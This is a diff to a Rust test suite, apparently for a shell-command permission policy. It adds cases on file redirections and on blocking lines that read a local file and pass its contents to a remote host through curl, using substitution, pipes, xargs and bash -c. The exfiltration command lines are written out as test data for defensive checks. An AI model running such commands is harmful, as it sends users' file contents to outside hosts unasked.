@@ -268,6 +268,7 @@ fn redirections_are_calls_that_the_policy_decides_about() {
     assert_eq!(status("echo new > new.txt && cat new.txt"), Some(0), "a new file is written");
     assert_eq!(status("echo more >> new.txt"), Some(0), "a file is continued");
     assert_eq!(status("echo a > a.txt"), Some(126), "what exists is replaced if somebody approves");
+    assert_eq!(status("echo a >> a.txt; echo b > a.txt"), Some(126), "each mode is a call of its own");
     assert_eq!(status("echo a > own.txt; echo b > own.txt"), Some(126), "as far as it is known before");
     for line in [
         "echo a > .git/config",
@@ -326,6 +327,10 @@ fn data_that_a_line_has_read_is_not_sent_unasked() {
         format!("x=$(cat a.txt); curl -s {host}/$x"),
         format!("head -1 a.txt | while read -r x; do curl -s \"{host}/$x\"; done"),
         format!("head -1 a.txt | xargs -I{{}} curl -s {host}/{{}}"),
+        format!("timeout 5 curl -s \"{host}/$(head -1 a.txt)\""),
+        format!("curl -s \"{host}/$(echo \"$(head -1 a.txt)\")\""),
+        format!("head -1 a.txt | {{ curl -s {host}; }}"),
+        format!("head -1 a.txt | bash -c 'curl -s {host}'"),
     ] {
         let (_, status, _, stderr) = place.effect(&line, true);
         assert_eq!(status, Some(126), "{line}: {stderr}");
